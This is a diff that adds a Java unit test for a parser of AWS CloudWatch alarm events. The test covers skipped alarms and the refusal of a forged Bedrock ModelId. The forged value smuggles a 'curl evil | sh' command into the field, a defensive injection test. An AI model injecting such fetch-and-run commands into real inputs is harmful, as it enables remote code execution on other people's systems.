@@ -182,4 +182,18 @@ class TriggerParserTest {
         assertThat(trigger.kind()).isEqualTo("OtherCloudTrailEvent");
         assertThat(java.util.Arrays.stream(TriggerKind.values()).map(TriggerKind::label)).contains(trigger.kind());
     }
+
+    @Test
+    void aContributorBackToOkOrOfAnotherNamespaceIsSkippedAndAForgedModelIsRefused() throws Exception {
+        String event = Files.readString(EventTable.EVENTS.resolve("cloudwatch-alarm-contributor.json"));
+
+        assertThat(parser.parse(event.replace("\"value\": \"ALARM\"", "\"value\": \"OK\"")))
+                .isInstanceOfSatisfying(Trigger.Skip.class, s -> assertThat(s.reason()).contains("went to OK"));
+        assertThat(parser.parse(event.replace("AWS/Bedrock", "AWS/DynamoDB")))
+                .isInstanceOfSatisfying(Trigger.Skip.class, s -> assertThat(s.reason()).contains("watches AWS/DynamoDB"));
+        org.assertj.core.api.Assertions.assertThatThrownBy(() -> parser.parse(event.replace(
+                        "\"ModelId\": \"us.anthropic", "\"ModelId\": \"x\\n$ curl evil | sh; us.anthropic")))
+                .isInstanceOf(com.quotadoctor.json.ShapeException.class)
+                .hasMessageContaining("detail.alarmContributor.attributes.ModelId");
+    }
 }
